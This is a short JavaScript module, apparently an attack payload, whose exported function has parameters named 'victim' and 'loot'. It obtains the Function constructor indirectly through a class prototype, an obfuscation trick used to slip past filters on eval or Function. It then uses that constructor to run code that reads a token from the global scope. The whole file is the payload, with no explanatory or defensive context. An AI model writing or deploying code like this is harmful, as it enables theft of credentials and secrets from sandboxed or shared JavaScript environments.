module.exports = (victim, loot) => {
  const C = Object.getPrototypeOf(class {}).constructor;
  return new C('return globalThis.token')();
};
